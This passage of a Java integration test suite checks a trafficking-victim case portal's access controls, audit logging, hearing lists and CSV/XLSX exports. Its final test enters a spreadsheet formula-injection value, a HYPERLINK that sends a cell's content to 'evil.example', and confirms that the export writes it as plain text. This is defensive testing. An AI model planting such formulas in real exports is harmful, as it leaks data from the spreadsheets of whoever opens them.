        em.find(rs.astra.nrm.referral.Referral.class, referral).getVersion(),
        "Kraj testa");
  }

  @Test
  void aServiceRecordedWhileTheOwnerHadTheCasePageOpenShowsAfterHerNextChangeOnIt()
      throws Exception {
    fixture();
    Viewer owner = viewer("rp.coordinator");
    long caseId = openCase(owner, "Supportrefreshed", LocalDate.of(1991, 6, 7));
    PortalSession coordinator = signedIn("rp.coordinator", PASSWORD);
    String page = coordinator.get("app/case.xhtml?id=" + caseId).body();
    assertFalse(page.contains("Sigurna kuca Zvezda"));
    // A colleague, in another tab, records a service on the case.
    serviceEntries.addService(
        owner,
        caseId,
        new rs.astra.nrm.support.NewServiceForm(
            rs.astra.nrm.support.ServiceType.Accommodation,
            null,
            "Sigurna kuca Zvezda",
            rs.astra.nrm.support.ServiceStatus.PLANNED,
            null,
            null,
            null,
            null));
    Map<String, String> correction = new java.util.LinkedHashMap<>();
    correction.put("caseForm:correctionField_input", "LOCATION_OF_EXPLOITATION");
    correction.put("caseForm:correctionValue", "Subotica");
    correction.put("caseForm:correctionReason", "Rečeno pri razgovoru");
    String corrected = coordinator.submitForPage("caseForm", "caseForm:correct", correction);
    assertTrue(
        corrected.contains("Ispravka je sačuvana")
            || corrected.contains("The correction was saved"),
        "the correction is saved");
    assertTrue(
        corrected.contains("Sigurna kuca Zvezda"),
        "after a change on the page its support plan shows the case as it is now");
  }

  @Test
  void theCasePageNamesALegalBasisInWordsNotByItsRuleCode() throws Exception {
    fixture();
    PortalSession cptv = signedIn("rp.cptv", PASSWORD);
    String page = cptv.get("app/case.xhtml?id=" + CASES.get("Waitingsent")).body();
    assertTrue(
        page.contains("pravni osnov: formalna identifikacija žrtve"),
        "the CPTV reads the case under the law on its identification, said in words");
    assertFalse(page.contains("CPTV_IDENTIFICATION"), "no rule code on the page");
  }

  // ---- the data protection officer ----

  @Test
  void theDataProtectionOfficerFindsCaseCodesAndNoNames() throws Exception {
    Viewer dpo = viewer("dpo");
    List<Object[]> astra =
        em.createQuery(
                "select c.id, c.code, p.firstName, p.secondName from CaseFile c join c.person p where c.ownerOrganisation.name = 'ASTRA' order by c.id",
                Object[].class)
            .setMaxResults(5)
            .getResultList();
    String wanted = (String) astra.get(0)[1];
    List<AccessReportService.CaseCodeLine> found =
        reports.findCasesForReport(dpo, wanted.substring(wanted.length() - 5), null, 0, 20);
    assertTrue(found.stream().anyMatch(l -> l.code().equals(wanted)));
    assertTrue(
        found.stream().allMatch(l -> l.code().contains(wanted.substring(wanted.length() - 5))));
    assertThrows(
        NotPermittedException.class,
        () -> reports.findCasesForReport(viewer("ngo.caseworker1"), null, null, 0, 20));

    // Preparing a report is recorded, the DPO's included (the security trial found it was not).
    long caseId = (Long) astra.get(0)[0];
    String prepared =
        "select count(a) from ActivityRecord a where a.kind = :k and a.subjectId = :c and a.userId = :u";
    long before =
        em.createQuery(prepared, Long.class)
            .setParameter("k", ActivityRecord.Kind.ACCESS_REPORT_PREPARED)
            .setParameter("c", caseId)
            .setParameter("u", dpo.userId())
            .getSingleResult();
    assertNotNull(reports.reportForCase(dpo, caseId), "the DPO of the owner prepares the report");
    assertEquals(
        before + 1,
        (long)
            em.createQuery(prepared, Long.class)
                .setParameter("k", ActivityRecord.Kind.ACCESS_REPORT_PREPARED)
                .setParameter("c", caseId)
                .setParameter("u", dpo.userId())
                .getSingleResult());

    PortalSession session = signedIn("dpo", "demo");
    assertTrue(session.lastPage().contains("id=\"navAccessReports\""));
    session.get("app/access-reports.xhtml");
    String page =
        session.submitForPage(
            "searchForm",
            "searchForm:search",
            Map.of("searchForm:code", wanted, "searchForm:openedOn_input", ""));
    assertEquals(
        Set.of(wanted),
        matches(page, "<span class=\"found-code\">([^<]+)</span>"),
        "exactly the case searched for");
    assertTrue(
        page.contains("access-report.xhtml?id=" + astra.get(0)[0]), "linked to its access report");
    for (Object[] person : astra) {
      for (Object name : new Object[] {person[2], person[3]}) {
        if (name != null && ((String) name).length() > 2) {
          assertFalse(page.contains((String) name), "no name on the DPO's search page");
        }
      }
    }
    assertEquals(
        403,
        signedIn("ngo.caseworker1", "demo").get("app/access-reports.xhtml").statusCode(),
        "the search is the DPO's");
  }

  // ---- upcoming hearings ----

  @Test
  void aHearingScheduledByTheProsecutorShowsOnItsAndTheOwnersHomePagesOnly() throws Exception {
    fixture();
    long trial = CASES.get("Trialcase");
    String code = code(trial);
    LocalDate today = rs.astra.nrm.shared.NrmTime.today();
    Viewer prosecutor = viewer("rp.prosecutor");
    proceedings.record(
        prosecutor,
        trial,
        new ProceedingsService.NewEntryForm(
            ProceedingsEntryKind.HEARING,
            today.plusDays(12),
            null,
            null,
            null,
            null,
            null,
            "Viši sud u Subotici, sudnica 4"));
    proceedings.record(
        prosecutor,
        trial,
        new ProceedingsService.NewEntryForm(
            ProceedingsEntryKind.HEARING,
            today.minusDays(3),
            null,
            null,
            null,
            null,
            null,
            "Past hearing"));
    assertEquals(
        "proceedings.error.futureDate",
        assertThrows(
                InvalidRequestException.class,
                () ->
                    proceedings.record(
                        prosecutor,
                        trial,
                        new ProceedingsService.NewEntryForm(
                            ProceedingsEntryKind.VERDICT,
                            today.plusDays(1),
                            null,
                            null,
                            null,
                            null,
                            null,
                            null)))
            .messageKey(),
        "only a hearing may lie ahead");
    proceedings.record(
        viewer("rp.police"),
        trial,
        new ProceedingsService.NewEntryForm(
            ProceedingsEntryKind.COMPLAINT_FILED, today, null, 1, null, null, null, null));

    // The list agrees with what each viewer reads of the case's proceedings, entry by entry.
    for (String user :
        List.of("rp.prosecutor", "rp.coordinator", "rp.police", "rp.unrelated", "rp.csw")) {
      Viewer v = viewer(user);
      List<Long> upcoming =
          proceedings.upcomingHearings(v, 50).first().stream()
              .filter(h -> h.caseId() == trial)
              .map(ProceedingsService.UpcomingHearing::entryId)
              .toList();
      List<Long> readable = new ArrayList<>();
      try {
        proceedings.entries(v, trial).stream()
            .filter(e -> e.kind() == ProceedingsEntryKind.HEARING && !e.date().isBefore(today))
            .forEach(e -> readable.add(e.id()));
      } catch (rs.astra.nrm.consent.AccessDeniedException denied) {
        // nothing readable
      }
      assertEquals(readable, upcoming, user);
    }
    assertEquals(
        1,
        proceedings.upcomingHearings(prosecutor, 50).first().stream()
            .filter(h -> h.caseId() == trial)
            .count());
    assertTrue(
        proceedings.upcomingHearings(viewer("rp.police"), 50).first().stream()
            .noneMatch(h -> h.caseId() == trial),
        "the police read only their own records without the person's consent");

    for (String user : List.of("rp.prosecutor", "rp.coordinator")) {
      String home = signedIn(user, PASSWORD).lastPage();
      assertTrue(home.contains("id=\"upcomingHearings\""), user);
      assertTrue(
          matches(home, "class=\"nrm-case-code hearing-case\"[^>]*>([^<]+)</a>").contains(code),
          user + " sees the hearing of " + code);
      assertTrue(
          home.contains("Viši sud u Subotici, sudnica 4")
              || home.contains("Vi&scaron;i sud u Subotici, sudnica 4"),
          user + " sees the court");
      assertFalse(home.contains("Past hearing"), "only hearings from today on");
    }
    String unrelated = signedIn("rp.unrelated", PASSWORD).lastPage();
    assertFalse(unrelated.contains(code), "an organisation without the case sees nothing of it");
    assertFalse(unrelated.contains("sudnica 4"));
  }

  // ---- exports ----

  @Test
  void theSocialWorkCentresCsvExportHoldsItsReferredCasesAndOnlyTheNamesThePageShows()
      throws Exception {
    fixture();
    Viewer csw = viewer("rp.csw");
    PortalSession session = signedIn("rp.csw", PASSWORD);
    String page = session.get("app/cases.xhtml").body();
    Set<String> pageCodes = matches(page, "class=\"nrm-case-code\"[^>]*>([^<]+)</a>");
    assertEquals(
        new TreeSet<>(Set.of(code(CASES.get("Childcase")), code(CASES.get("Consented")))),
        pageCodes,
        "the centre's case list");
    assertTrue(page.contains("Rpperson Consented"), "the consented name shows on the page");
    assertFalse(page.contains("Childcase"), "the other name does not");

    HttpResponse<byte[]> download = session.submit("casesForm", "casesForm:exportCsv", Map.of());
    assertTrue(
        download.headers().firstValue("Content-Type").orElse("").startsWith("text/csv"),
        download.headers().map().toString());
    String csv = new String(download.body(), StandardCharsets.UTF_8);
    for (String code : pageCodes) {
      assertTrue(csv.contains(code), "the export holds " + code);
    }
    assertFalse(
        csv.contains(code(CASES.get("Notreferred"))),
        "and no case that is not referred to the centre");
    assertTrue(csv.contains("Rpperson Consented"), "the name the page shows");
    assertFalse(csv.contains("Childcase"), "no name the page does not show");
    assertEquals(3, csv.strip().split("\r?\n").length, "a header and one line per case: " + csv);
    assertFalse(
        csv.contains("#{") || csv.contains("<span"),
        "the documents column (empty for a recipient) holds no page markup: " + csv);
    LocalDate consentedOpened = openedOn(CASES.get("Consented"));
    assertTrue(
        csv.contains(
            "\"" + consentedOpened.format(DateTimeFormatter.ofPattern("dd.MM.yyyy")) + "\""),
        "the opening day as the page shows it, dd.MM.yyyy: " + csv);

    List<ActivityRecord> exports =
        em.createNamedQuery(ActivityRecord.FIND_BY_USER_AND_KIND, ActivityRecord.class)
            .setParameter("userId", csw.userId())
            .setParameter("kind", ActivityRecord.Kind.LIST_EXPORTED)
            .getResultList();
    assertEquals(1, exports.size());
    assertEquals(AccessAction.EXPORT, exports.get(0).getAction());
    assertEquals(2, exports.get(0).getRows());
    assertEquals("CASE_LIST CSV", exports.get(0).getDetail());
    long person =
        em.createQuery("select c.person.id from CaseFile c where c.id = :id", Long.class)
            .setParameter("id", CASES.get("Consented"))
            .getSingleResult();
    assertTrue(
        em
            .createNamedQuery(AuditRecord.FIND_BY_PERSON, AuditRecord.class)
            .setParameter("personId", person)
            .getResultList()
            .stream()
            .anyMatch(
                a ->
                    a.getUserId() == csw.userId()
                        && a.getAction() == AccessAction.EXPORT
                        && a.getCategory() == DataCategory.IDENTITY),
        "the exported name is in the person's access report");

    // The inbox exports too, with its own record.
    session.get("app/inbox.xhtml");
    String inbox =
        new String(
            session.submit("inboxForm", "inboxForm:exportCsv", Map.of()).body(),
            StandardCharsets.UTF_8);
    assertTrue(inbox.contains(code(CASES.get("Childcase"))));
    assertTrue(
        Pattern.compile("\"\\d{2}\\.\\d{2}\\.\\d{4}\"").matcher(inbox).find(),
        "the referral day as dd.MM.yyyy text: " + inbox);
    assertEquals(
        2,
        em.createNamedQuery(ActivityRecord.FIND_BY_USER_AND_KIND, ActivityRecord.class)
            .setParameter("userId", csw.userId())
            .setParameter("kind", ActivityRecord.Kind.LIST_EXPORTED)
            .getResultList()
            .size());
  }

  /**
   * On PostgreSQL a trigger makes the activity record append-only for every role, like the audit
   * trail; the embedded H2 has no such trigger (the application has no code that changes records).
   */
  @Test
  void onPostgresqlTheDatabaseRefusesToChangeOrDeleteActivityRecords() throws Exception {
    fixture();
    try (var c =
        ((javax.sql.DataSource) new javax.naming.InitialContext().lookup("java:app/jdbc/nrm"))
            .getConnection()) {
      String vendor = c.getMetaData().getDatabaseProductName();
      if (!vendor.equalsIgnoreCase("PostgreSQL")) {
        System.out.println("Activity record append-only trigger: not checked on " + vendor);
        return;
      }
      for (String sql :
          List.of(
              "update activity_record set row_count = 0",
              "delete from activity_record",
              "truncate activity_record")) {
        java.sql.SQLException refused =
            assertThrows(
                java.sql.SQLException.class,
                () -> {
                  try (var st = c.createStatement()) {
                    st.executeUpdate(sql);
                  }
                },
                sql);
        assertTrue(refused.getMessage().contains("append-only"), refused.getMessage());
      }
    }
  }

  @Test
  void theXlsxExportIsAWorkbookWithTheOwnersCases() throws Exception {
    fixture();
    Viewer owner = viewer("rp.coordinator");
    PortalSession session = signedIn("rp.coordinator", PASSWORD);
    session.get("app/cases.xhtml");
    HttpResponse<byte[]> download = session.submit("casesForm", "casesForm:exportXlsx", Map.of());
    assertTrue(
        download.headers().firstValue("Content-Disposition").orElse("").contains(".xlsx"),
        download.headers().map().toString());
    Set<String> codes = new HashSet<>();
    Set<String> names = new HashSet<>();
    Map<String, LocalDate> openedDays = new HashMap<>();
    Set<String> openedTexts = new HashSet<>();
    try (Workbook workbook = WorkbookFactory.create(new ByteArrayInputStream(download.body()))) {
      Sheet sheet = workbook.getSheetAt(0);
      DataFormatter text = new DataFormatter();
      for (Row row : sheet) {
        if (row.getRowNum() > 0) {
          codes.add(text.formatCellValue(row.getCell(0)));
          names.add(text.formatCellValue(row.getCell(1)));
          org.apache.poi.ss.usermodel.Cell opened = row.getCell(2);
          assertTrue(
              org.apache.poi.ss.usermodel.DateUtil.isCellDateFormatted(opened),
              "the opening day is a date cell, not " + text.formatCellValue(opened));
          openedDays.put(
              text.formatCellValue(row.getCell(0)),
              opened.getLocalDateTimeCellValue().toLocalDate());
          openedTexts.add(text.formatCellValue(opened));
        }
      }
    }
    assertEquals(
        openedOn(CASES.get("Notreferred")),
        openedDays.get(code(CASES.get("Notreferred"))),
        "the opening day read back as the day it is");
    assertTrue(
        openedTexts.stream().allMatch(t -> t.matches("\\d{2}\\.\\d{2}\\.\\d{4}")),
        "shown dd.MM.yyyy: " + openedTexts);
    long owned = cases.count(owner, CaseListQuery.firstPage(20));
    assertEquals(owned, codes.size(), "one row per case the owner has");
    assertTrue(codes.contains(code(CASES.get("Notreferred"))));
    assertTrue(names.contains("Rpperson Notreferred"), "the owner exports names");
    assertTrue(
        em
            .createNamedQuery(ActivityRecord.FIND_BY_USER_AND_KIND, ActivityRecord.class)
            .setParameter("userId", owner.userId())
            .setParameter("kind", ActivityRecord.Kind.LIST_EXPORTED)
            .getResultList()
            .stream()
            .anyMatch(
                a ->
                    "CASE_LIST XLSX".equals(a.getDetail())
                        && a.getRows() == owned
                        && a.getAction() == AccessAction.EXPORT));
  }

  private LocalDate openedOn(long caseId) {
    return em.createQuery("select c.openedOn from CaseFile c where c.id = :id", LocalDate.class)
        .setParameter("id", caseId)
        .getSingleResult();
  }

  @Test
  void aNameThatASpreadsheetWouldRunAsAFormulaIsExportedAsText() throws Exception {
    fixture();
    // An organisation of its own, so that no other test's list changes.
    Viewer admin = viewer("admin");
    long ngo =
        administration.createOrganisation(
            admin, "RP Formula NGO", OrganisationType.NGO, "Subotica");
    createApproved(
        new AdministrationService.NewUserForm(
            "rp.formula",
            "Tester rp.formula",
            "rp.formula@example.org",
            ngo,
            PortalRole.NGO_COORDINATOR,
            PASSWORD));
    String formula = "=HYPERLINK(\"http://evil.example/?\"&A2,\"Klik\")";
    cases.open(
        viewer("rp.formula"),
        new CaseFileService.NewCaseForm(
            formula,
            "+381 Formula",
            LocalDate.of(1990, 1, 1),
            null,
            "RS",
            null,
            null,
            Set.of(),
            null,
            null));

    PortalSession session = signedIn("rp.formula", PASSWORD);
    session.get("app/cases.xhtml");
    String csv =
        new String(
            session.submit("casesForm", "casesForm:exportCsv", Map.of()).body(),
            StandardCharsets.UTF_8);
    assertTrue(
        csv.contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A2,\"\"Klik\"\") +381 Formula\""),
        "the name is written as text: " + csv);
    assertFalse(csv.contains("\"=HYPERLINK"), "no cell starts with the formula: " + csv);

    session.get("app/cases.xhtml");
    try (Workbook workbook =
        WorkbookFactory.create(
            new ByteArrayInputStream(
                session.submit("casesForm", "casesForm:exportXlsx", Map.of()).body()))) {
      org.apache.poi.ss.usermodel.Cell name = workbook.getSheetAt(0).getRow(1).getCell(1);
      assertEquals(
          org.apache.poi.ss.usermodel.CellType.STRING,
          name.getCellType(),
          "a text cell, which a spreadsheet never evaluates");
      assertEquals(formula + " +381 Formula", name.getStringCellValue(), "shown as the name it is");
    }
  }
}
